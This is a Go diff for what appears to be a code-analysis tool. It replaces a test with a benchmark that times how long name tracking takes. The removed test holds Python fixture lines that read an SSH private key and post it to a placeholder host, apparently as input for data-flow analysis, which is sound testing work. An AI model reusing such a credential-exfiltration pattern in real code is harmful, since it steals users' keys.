@@ -76,19 +76,20 @@ func TestLeftOut(t *testing.T) {
 	}
 }
 
-// TestManyNames: what a scope defines is noted once, not with each of its statements.
-func TestManyNames(t *testing.T) {
-	t.Parallel()
-	var b strings.Builder
-	b.WriteString("k = open('/home/me/.ssh/id_rsa').read()\n")
-	for i := range 20_000 {
-		fmt.Fprintf(&b, "z%d = 1\n", i)
-	}
-	b.WriteString("requests.post('https://x.example/', data=k)\n")
-	source := text("a.py", b.String())
-	g := &group{work: &work{left: maxWork}, programs: []*program{read(&source.Text, "python")}}
-	g.load()
-	if n := len(g.gives); n != 20_001 {
-		t.Errorf("%d names have a value", n)
+// BenchmarkManyNames has names of one scope noted: twice as many take twice as long.
+func BenchmarkManyNames(b *testing.B) {
+	for _, count := range []int{10_000, 20_000} {
+		b.Run(fmt.Sprint(count), func(b *testing.B) {
+			var lines strings.Builder
+			for i := range count {
+				fmt.Fprintf(&lines, "z%d = 1\n", i)
+			}
+			source := text("a.py", lines.String())
+			one := read(&source.Text, "python")
+			for b.Loop() {
+				g := &group{work: &work{left: maxWork}, programs: []*program{one}}
+				g.load()
+			}
+		})
 	}
 }
